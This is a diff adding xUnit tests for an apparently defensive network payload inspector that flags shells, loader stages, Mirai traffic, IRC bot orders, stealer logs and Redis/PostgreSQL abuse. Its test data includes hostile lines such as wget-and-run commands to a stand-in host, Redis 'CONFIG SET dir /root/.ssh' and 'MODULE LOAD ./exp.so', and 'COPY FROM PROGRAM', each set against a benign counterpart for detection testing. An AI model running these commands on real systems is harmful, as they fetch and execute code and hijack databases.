@@ -30,6 +30,79 @@ public class IndicatorPeekTests
     public void A_shell_on_a_connection_of_no_protocol_gives_itself_away(string payload) =>
         Assert.Equal(IndicatorKind.Shell, Look(payload)!.Kind);
 
+    /// <summary>A terminal server shows its prompt to whoever connects: no shell that gives itself away.</summary>
+    [Theory]
+    [InlineData("root@web01:/var/www# ", true)]
+    [InlineData("\u001b]0;ann@web01: ~\u0007\u001b[01;32mann@web01\u001b[00m:~$ ", true)]
+    [InlineData("sh-4.2# ", true)]
+    [InlineData("to ann@shop.example: 20 $ ", false)]
+    [InlineData("price: 20 $ ", false)]
+    [InlineData("root@web01:/var/www# ls -la\n", false)]
+    public void Who_connects_and_shows_a_prompt_is_a_shell_and_a_console_is_none(string words, bool isPrompt)
+    {
+        Assert.Equal(isPrompt, Look(words)?.Kind == IndicatorKind.Shell);
+        Assert.Null(Look(words, fromResponder: true));
+    }
+
+    /// <summary>Length, then a program: a loader's stage; a program by itself, or behind a length that is none, is not.</summary>
+    [Theory]
+    [InlineData(46_000, "MZ", true)]
+    [InlineData(46_000, "\u007FELF\u0002\u0001", true)]
+    [InlineData(900, "\u007FELF\u0002\u0001", false)]
+    [InlineData(46_000, "\u007FELL\u0002\u0001", false)]
+    public void A_stage_comes_behind_its_length(int length, string program, bool isStage)
+    {
+        byte[] p = [0, 0, 0, 0, .. Encoding.Latin1.GetBytes(program.PadRight(120, '\0') + "This program cannot be run in DOS mode."), .. new byte[300]];
+        BinaryPrimitives.WriteInt32LittleEndian(p, length);
+        Assert.Equal(isStage, Look(p, fromResponder: true)?.Kind == IndicatorKind.Stage);
+    }
+
+    [Theory]
+    [InlineData(true, "\0\0", true)]
+    [InlineData(true, "\0\u0001", false)]
+    [InlineData(false, "\0\0", false)]
+    public void A_bots_hello_is_told_with_its_first_beat(bool named, string beat, bool found)
+    {
+        var state = new PeekState();
+        var peek = new PayloadPeek();
+        PeekInfo? Say(string words, bool fromResponder = false) => peek.Look(ref state, fromResponder, IpProtocol.Tcp, 40_000, 3778, Encoding.Latin1.GetBytes(words));
+        Assert.Null(Say("\0\0\0\u0001"));
+        Assert.Null(Say(named ? "\u0005x86.a" : "what follows is four letters"));
+        Assert.Equal(found, Say(beat) is Indicator { Name: "mirai" });
+    }
+
+    [Theory]
+    [InlineData(":boss!x@y PRIVMSG #c :!* SH wget http://203.0.113.9/a;sh a\r\n", true)]
+    [InlineData(":boss!x@y PRIVMSG #c :.download http://[2001:db8::9]/a.exe c:\\a.exe 1\r\n", true)]
+    [InlineData(":ann!x@y PRIVMSG #c :!title http://192.0.2.9/photos\r\n", false)]
+    [InlineData(":ann!x@y PRIVMSG #c :get http://192.0.2.9/putty.exe and run it\r\n", false)]
+    public void A_herders_order_to_load_a_program_is_told_from_a_link(string line, bool order) =>
+        Assert.Equal(order, Look(line, fromResponder: true, application: AppProtocol.Irc)?.Kind == IndicatorKind.RemoteAccess);
+
+    [Theory]
+    [InlineData("Time: 05/06/2024<br>User Name: ann<br>Computer Name: WS-1<br>OSFullName: Microsoft Windows 10 Pro<br>CPU: Intel<br>RAM: 8191 MB<br><hr>URL:https://mail.example<br>Username:ann<br>Password:x<br>Application:Chrome", true)]
+    [InlineData("Dear Ann, welcome! Your account is ready. URL: https://portal.example Username: ann Password: summer Please change it today. Your computer name: WS-1. Regards, the help desk", false)]
+    [InlineData("Inventory of the day: Computer Name: WS-1, Microsoft Windows 10 Pro, CPU: Intel, RAM: 8191 MB, HWID: 17, last user: ann, password age: 12 days, all well on this machine", false)]
+    public void A_machines_passwords_are_told_from_a_welcome_and_an_inventory(string text, bool stolen)
+    {
+        Assert.Equal(stolen, Look(text)?.Name == Indicator.StolenSecrets);
+        Assert.Equal(stolen, Look(text, application: AppProtocol.Smtp)?.Name == Indicator.StolenSecrets);
+    }
+
+    /// <summary>"+OK" and nothing more is also what Redis says to a command that was typed: the session stays one that commands are looked for in.</summary>
+    [Fact]
+    public void A_redis_that_says_ok_is_no_mailbox()
+    {
+        var state = new PeekState();
+        var peek = new PayloadPeek();
+        peek.Look(ref state, false, IpProtocol.Tcp, 40_000, 6379, "SET x 1\r\n"u8);
+        peek.Look(ref state, true, IpProtocol.Tcp, 40_000, 6379, "+OK\r\n"u8);
+        Assert.Equal("redis-write", Assert.IsType<Indicator>(peek.Look(ref state, false, IpProtocol.Tcp, 40_000, 6379, "CONFIG SET dir /root/.ssh\r\n"u8)).Name);
+        var mail = new PeekState();
+        peek.Look(ref mail, true, IpProtocol.Tcp, 40_000, 110, "+OK\r\n"u8);
+        Assert.Equal(AppProtocol.Pop3, mail.Application);
+    }
+
     [Theory]
     [InlineData("Microsoft Windows is a trademark [Version of 2024]")]
     [InlineData("C:\\>type readme.txt\r\nC:\\dir")]
@@ -69,6 +142,11 @@ public class IndicatorPeekTests
     [InlineData("\x01\x04\0\x01\0\x40\0\0\x09PHP_VALUEauto_prepend_file = php://input", "\x01\x04\0\x01\0\x40\0\0\x09PHP_VALUEauto_prepend_file=/srv/www/wordfence-waf.php", AppProtocol.Unknown)]
     [InlineData("system.run[wget http://203.0.113.9/x -O /tmp/x]\n", "system.run[df -h /var | tail -n 1]\n", AppProtocol.Unknown)]
     [InlineData("PRIVMSG #x :uid=0(root) gid=0(root) groups=0(root)\r\n", "PRIVMSG #x :my uid=0(root) gid=0(root) looks odd, why?\r\n", AppProtocol.Irc)]
+    [InlineData("CONFIG SET dir /var/spool/cron\r\n", "CONFIG SET dir /var/lib/redis\r\n", AppProtocol.Unknown)]
+    [InlineData("config set dbfilename exp.so\r\n", "config set dbfilename dump.rdb\r\n", AppProtocol.Unknown)]
+    [InlineData("MODULE LOAD ./exp.so\r\n", "MODULE LOAD /usr/lib/redis/redisearch.so\r\n", AppProtocol.Unknown)]
+    [InlineData("Q\0\0\0HCOPY x FROM PROGRAM 'ip a';\0", "Q\0\0\0HCOPY x FROM PROGRAM 'df -h /srv';\0", AppProtocol.PostgreSql)]
+    [InlineData("cd /tmp; wget http://203.0.113.9/x.sh; chmod 777 x.sh; ./x.sh\r\n", "wget http://firmware.example/x.bin -O /tmp/x.bin\r\n", AppProtocol.Telnet)]
     [InlineData("158\0ll|'|'|SGFjS2Vk|'|'|DESK|'|'|ann", "158\0ll, said he: '|'", AppProtocol.Unknown)]
     public void Commands_of_backdoors_are_known_and_ordinary_ones_pass(string attack, string honest, AppProtocol application)
     {
